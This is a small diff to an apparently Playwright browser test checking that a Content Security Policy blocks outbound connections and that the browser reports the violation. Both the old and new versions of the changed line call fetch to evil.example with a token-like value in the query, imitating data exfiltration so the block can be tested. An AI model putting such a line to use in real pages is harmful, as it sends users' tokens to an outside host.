@@ -54,7 +54,7 @@ test('a violation of the policy is reported by the browser itself @rare', async 
 }) => {
   expectRefusal(pageConsole, /connect-src https:\/\/evil/);
   await page.goto(overTls.origin);
-  await page.evaluate("fetch('https://evil.example/?token=eyJhbGciOi').catch(() => {})");
+  await page.evaluate(() => fetch('https://evil.example/?token=eyJhbGciOi').catch(() => {}));
   await expect
     .poll(() => overTls.byBrowser)
     .toEqual([
